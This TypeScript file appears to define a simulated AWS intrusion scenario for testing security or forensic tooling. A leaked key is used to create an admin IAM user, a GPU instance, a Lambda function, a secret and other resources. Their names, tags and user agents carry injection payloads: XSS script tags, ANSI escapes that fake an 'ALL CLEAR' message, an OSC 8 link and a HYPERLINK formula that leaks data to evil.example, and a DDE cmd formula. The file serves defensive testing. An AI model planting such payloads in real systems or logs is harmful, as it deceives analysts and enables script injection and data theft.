import type { ScenarioDef, Step } from '../types.js';
import { zipOneFile } from '../../services/lambda/zip.js';
import { W, amiFor, arn } from '../world.js';

const MIN = 60_000;
const HOUR = 60 * MIN;

/**
 * Strings attackers plant for the tools that will read their traces: HTML and script for web
 * reports, ANSI escape sequences for terminals (in request parameters and tags: HTTP headers
 * cannot carry control characters), spreadsheet formulas for CSV exports.
 */
export const HOSTILE = {
  script: '<script>alert(document.domain)</script>',
  img: '"><img src=x onerror=alert(1)>',
  ansi: '\u001b[2J\u001b[H\u001b[31mALL CLEAR - nothing to see\u001b[0m',
  osc: '\u001b]8;;http://evil.example/\u0007click me\u001b]8;;\u0007',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  cmd: "=cmd|' /C calc'!A0",
};

const step = (
  at: number,
  actor: string,
  service: Step['service'],
  op: string,
  input: Step['input'],
  extra: Partial<Step> = {},
): Step => ({
  at,
  actor,
  service,
  op,
  input,
  ...extra,
});

const HOSTILE_USER = 'svc-monitor';

/** Hostile strings: an intrusion whose user agents, names, tags and parameters attack the reader. */
export const hostileStrings: ScenarioDef = {
  name: 'hostile-strings',
  summary:
    'leaked key used with user agents, resource names, tags and parameters carrying HTML/script, ANSI escapes and spreadsheet formulas',
  attackStartsBeforeEnd: 5 * HOUR,
  leakedKey: true,
  attackers: [
    { name: 'attacker', kind: 'attacker', ip: '198.18.7.66', userAgent: `${HOSTILE.script}${HOSTILE.img}` },
    { name: 'attacker-formula', kind: 'attacker', ip: '198.18.7.67', userAgent: HOSTILE.formula },
  ],
  steps: [
    step(0, 'attacker', 'sts', 'GetCallerIdentity', {}),
    step(MIN, 'attacker-formula', 'iam', 'ListUsers', {}),
    step(
      2 * MIN,
      'attacker',
      'iam',
      'CreateUser',
      {
        UserName: HOSTILE_USER,
        Tags: [
          { Key: 'owner', Value: HOSTILE.img },
          { Key: 'note', Value: HOSTILE.ansi },
          { Key: 'ticket', Value: HOSTILE.formula },
        ],
      },
      {
        truth: {
          created: [
            { type: 'AWS::IAM::User', id: HOSTILE_USER, detail: 'tags carry HTML, ANSI and a formula' },
          ],
          persistence: [
            { kind: 'iam-user', detail: 'user with hostile tags', resource: arn.user(HOSTILE_USER) },
          ],
          clean: [{ check: 'userAbsent', userName: HOSTILE_USER }],
        },
      },
    ),
    step(
      3 * MIN,
      'attacker',
      'iam',
      'PutUserPolicy',
      {
        UserName: HOSTILE_USER,
        PolicyName: 'x',
        PolicyDocument: JSON.stringify({
          Version: '2012-10-17',
          Statement: [{ Sid: 'S1', Effect: 'Allow', Action: '*', Resource: '*' }],
        }),
      },
      { truth: { modified: [{ type: 'AWS::IAM::User', id: HOSTILE_USER, detail: 'inline admin policy' }] } },
    ),
    step(
      5 * MIN,
      'attacker',
      'ec2',
      'CreateSecurityGroup',
      { GroupName: `${HOSTILE.cmd}`, Description: HOSTILE.img },
      {
        save: (out, v) => (v.hostileSg = out.GroupId),
        truth: (out) => ({
          created: [
            {
              type: 'AWS::EC2::SecurityGroup',
              id: String(out.GroupId),
              region: W.region,
              detail: 'name is a formula',
            },
          ],
        }),
      },
    ),
    step(
      6 * MIN,
      'attacker-formula',
      'ec2',
      'RunInstances',
      (v) => ({
        ImageId: amiFor(W.region),
        InstanceType: 'p3.2xlarge',
        MinCount: 1,
        MaxCount: 1,
        SecurityGroupIds: [v.hostileSg],
        TagSpecifications: [
          {
            ResourceType: 'instance',
            Tags: [
              { Key: 'Name', Value: `${HOSTILE.ansi}${HOSTILE.script}` },
              { Key: 'link', Value: HOSTILE.osc },
            ],
          },
        ],
      }),
      {
        truth: (out) => {
          const ids = (out.Instances as { InstanceId: string }[]).map((i) => i.InstanceId);
          return {
            created: ids.map((id) => ({
              type: 'AWS::EC2::Instance',
              id,
              region: W.region,
              detail: 'Name tag with ANSI and script',
            })),
            clean: ids.map((instanceId) => ({ check: 'instanceNotRunning', region: W.region, instanceId })),
          };
        },
      },
    ),
    step(
      8 * MIN,
      'attacker',
      'lambda',
      'CreateFunction',
      {
        FunctionName: 'report-renderer',
        Runtime: 'nodejs20.x',
        Role: arn.role(W.lambdaRole),
        Handler: 'index.handler',
        Description: `${HOSTILE.script} ${HOSTILE.formula}`,
        Code: { ZipFile: zipOneFile('index.js', `exports.handler = async () => '${HOSTILE.img}';\n`) },
      },
      {
        truth: (out) => ({
          created: [
            {
              type: 'AWS::Lambda::Function',
              id: String(out.FunctionArn),
              region: W.region,
              detail: 'description carries script and formula',
            },
          ],
          clean: [{ check: 'functionAbsent', region: W.region, functionName: 'report-renderer' }],
        }),
      },
    ),
    step(
      10 * MIN,
      'attacker',
      's3',
      'PutObject',
      { Bucket: W.artifacts, Key: `builds/${HOSTILE.script}.zip`, Body: HOSTILE.ansi },
      {
        truth: {
          created: [
            {
              type: 'AWS::S3::Object',
              id: `arn:aws:s3:::${W.artifacts}/builds/${HOSTILE.script}.zip`,
              detail: 'key carries script',
            },
          ],
        },
      },
    ),
    step(
      11 * MIN,
      'attacker',
      'ssm',
      'PutParameter',
      { Name: '/app/dev/banner', Type: 'String', Value: HOSTILE.formula, Description: HOSTILE.ansi },
      {
        truth: {
          created: [
            {
              type: 'AWS::SSM::Parameter',
              id: '/app/dev/banner',
              region: W.region,
              detail: 'value is a formula',
            },
          ],
        },
      },
    ),
    step(
      12 * MIN,
      'attacker',
      'secretsmanager',
      'CreateSecret',
      { Name: 'prod/ops/notes', Description: `${HOSTILE.img}${HOSTILE.osc}`, SecretString: HOSTILE.cmd },
      {
        truth: (out) => ({
          created: [
            {
              type: 'AWS::SecretsManager::Secret',
              id: String(out.ARN),
              region: W.region,
              detail: 'description carries HTML and an OSC 8 link',
            },
          ],
        }),
      },
    ),
  ],
};
